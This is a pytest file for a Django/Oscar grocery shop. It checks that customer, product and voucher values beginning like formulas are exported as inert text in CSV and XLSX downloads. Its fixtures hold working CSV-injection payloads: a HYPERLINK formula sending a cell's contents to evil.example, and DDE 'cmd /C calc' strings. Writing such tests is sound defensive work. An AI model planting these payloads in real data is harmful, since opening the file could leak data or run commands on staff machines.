"""No export runs a formula: customers' names, emails and addresses and product titles that start
with = + - @, a tab or a carriage return come out as text in every CSV and XLSX we produce —
route sheets, loading and picking lists, the warehouse picking totals, the supply page, the
grocery import/export, and Oscar's dashboard downloads (the order list, the reports and a voucher
set's codes)."""

from __future__ import annotations

import csv
import io
import re

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from oscar.test import factories as oscar

from essentiels.spreadsheets import FORMULA_PREFIXES
from tests.baskets.conftest import make_grocery, make_variant
from tests.baskets.subscription_factories import BEFORE_CUTOFF, DELIVERY, subscription_create
from tests.delivery.factories import paris_13e
from tests.delivery.routing_factories import BusFactory, DepotFactory, order_at
from tests.supply.factories import order_placed_create

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Valid addresses (the local part may hold = and +), as a shopper can register them.
HOSTILE_EMAILS = ["=1+1@evil.example", "+cmd@evil.example", "-2+3@evil.example"]


def cells_of_csv(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def cells_of_xlsx(body: bytes) -> list:
    workbook = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    return [cell.value for cell in cells]


def assert_inert(cells: list, *, expected: list[str]) -> None:
    """No text cell starts like a formula, and each hostile text is there, quoted."""
    texts = [cell for cell in cells if isinstance(cell, str)]
    runnable = [cell for cell in texts if cell.startswith(FORMULA_PREFIXES)]
    assert not runnable, f"cells a spreadsheet would run: {runnable}"
    for hostile in expected:
        assert any(hostile.strip("\r\t") in cell for cell in texts), f"{hostile!r} not exported"


def body_of(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.fixture
def hostile_shop(django_capture_on_commit_callbacks):
    """Products, shoppers and addresses named by an attacker, on Tuesday 8 December 2026."""
    district = paris_13e()
    products = [make_grocery(title) for title in HOSTILE]
    variant = make_variant(components={product: 1 for product in products})
    # a planned route: hostile names, addresses, phones and emails on its stops
    DepotFactory()
    BusFactory()
    for n, (hostile, email) in enumerate(zip(HOSTILE, HOSTILE_EMAILS * 2, strict=True)):
        delivery = order_at(
            district, day=DELIVERY, line1=f"{n} {hostile}", first_name=hostile, email=email
        )
        address = delivery.order.shipping_address
        address.last_name = hostile
        address.phone_number = "+33612345678"
        address.notes = hostile
        address.save()
    # orders of the basket (picking totals) and a subscriber (the supply forecast)
    order_placed_create(variant=variant, quantity=1, district=district, delivery_date=DELIVERY)
    subscription_create(variant=variant, district=district)
    from delivery.routing.services.planning import route_plan
    from supply.services.forecast import supply_forecast_refresh

    route_plan(delivery_date=DELIVERY, seconds=0.2)
    supply_forecast_refresh(now=BEFORE_CUTOFF)
    # Oscar's reports: a registered customer and an open cart with hostile names
    customer = oscar.UserFactory(
        first_name=HOSTILE[0], last_name=HOSTILE[2], email=HOSTILE_EMAILS[0]
    )
    with django_capture_on_commit_callbacks(execute=True):  # its order's commit: analytics
        oscar.create_order(user=customer)
    cart = oscar.create_basket()
    cart.owner = oscar.UserFactory(first_name=HOSTILE[3], email=HOSTILE_EMAILS[1])
    cart.save()
    return products


@pytest.fixture
def superuser_client():
    client = Client()
    client.force_login(oscar.UserFactory(is_staff=True, is_superuser=True))
    return client


@pytest.mark.parametrize("kind", ["route_sheet", "loading_list", "picking_list"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_route_manifests(hostile_shop, superuser_client, kind, fmt):
    url = reverse("admin:delivery_routeplan_manifest", args=[DELIVERY.isoformat(), kind, fmt])
    body = body_of(superuser_client.get(url))
    cells = cells_of_csv(body) if fmt == "csv" else cells_of_xlsx(body)
    # route sheets carry the customers' names and addresses; picking lists the products
    expected = {"route_sheet": HOSTILE[:4], "loading_list": [], "picking_list": HOSTILE}[kind]
    assert_inert(cells, expected=expected)


@time_machine.travel(BEFORE_CUTOFF, tick=False)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_warehouse_picking_totals(hostile_shop, superuser_client, fmt):
    url = reverse("admin:supply_pickingtotals_export", args=[DELIVERY.isoformat(), fmt])
    body = body_of(superuser_client.get(url))
    cells = cells_of_csv(body) if fmt == "csv" else cells_of_xlsx(body)
    assert_inert(cells, expected=HOSTILE)


@time_machine.travel(BEFORE_CUTOFF, tick=False)
def test_supply_page_export(hostile_shop, superuser_client):
    body = body_of(superuser_client.get(reverse("admin:supply_page_xlsx")))
    assert_inert(cells_of_xlsx(body), expected=HOSTILE)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_grocery_export_of_the_import_export_admin(hostile_shop, superuser_client, fmt):
    # given the admin's export form, offering CSV and XLSX only
    url = reverse("admin:baskets_groceryproduct_export")
    formats = dict(superuser_client.get(url).context["form"].fields["format"].choices)
    assert sorted(label for value, label in formats.items() if value != "") == ["csv", "xlsx"]
    fields = ("sku", "title", "price", "cost_price", "diets")
    data = {
        "format": next(value for value, label in formats.items() if label == fmt),
        "resource": "0",
        **{f"grocerycostresource_{name}": "on" for name in fields},
    }
    # when staff export every grocery product
    body = body_of(superuser_client.post(url, data))
    cells = cells_of_csv(body) if fmt == "csv" else cells_of_xlsx(body)
    # then titles are inert text, on rows that are not empty
    assert_inert(cells, expected=HOSTILE)
    assert "2,00" in cells or "2.00" in cells or 2 in cells


def test_oscar_dashboard_order_download(hostile_shop, superuser_client):
    response = superuser_client.get(reverse("dashboard:order-list"), {"response_format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert_inert(cells_of_csv(body_of(response)), expected=HOSTILE[:4] + HOSTILE_EMAILS)


@pytest.mark.parametrize("report", ["order_report", "open_baskets", "user_analytics"])
def test_oscar_dashboard_reports(hostile_shop, superuser_client, report):
    response = superuser_client.get(
        reverse("dashboard:reports-index"),
        {"report_type": report, "date_from": "", "date_to": "", "download": "true"},
    )
    assert response["Content-Type"].startswith("text/csv")
    expected = {
        "order_report": [HOSTILE[0], HOSTILE_EMAILS[0]],
        "open_baskets": [HOSTILE[3], HOSTILE_EMAILS[1]],
        "user_analytics": [HOSTILE_EMAILS[0]],
    }[report]
    assert_inert(cells_of_csv(body_of(response)), expected=expected)


def test_oscar_dashboard_voucher_set_download(superuser_client):
    # given a voucher set named, and its codes typed, by someone hostile
    from oscar.apps.voucher.models import Voucher

    voucher_set = oscar.VoucherSetFactory(name=HOSTILE[0], count=0)
    for n, hostile in enumerate(HOSTILE):
        Voucher.objects.create(
            name=f"{voucher_set.name} - {n}",
            code=hostile,
            voucher_set=voucher_set,
            start_datetime=voucher_set.start_datetime,
            end_datetime=voucher_set.end_datetime,
        )
    # when staff download its codes
    response = superuser_client.get(
        reverse("dashboard:voucher-set-download", args=[voucher_set.pk])
    )
    assert response["Content-Type"].startswith("text/csv")
    # then every code is there, as inert text, and the file's name is a plain slug
    cells = cells_of_csv(body_of(response))
    assert len(cells) == len(HOSTILE)
    assert_inert(cells, expected=[hostile.upper() for hostile in HOSTILE])
    assert re.fullmatch(r'attachment; filename="[a-z0-9-]+\.csv"', response["Content-Disposition"])
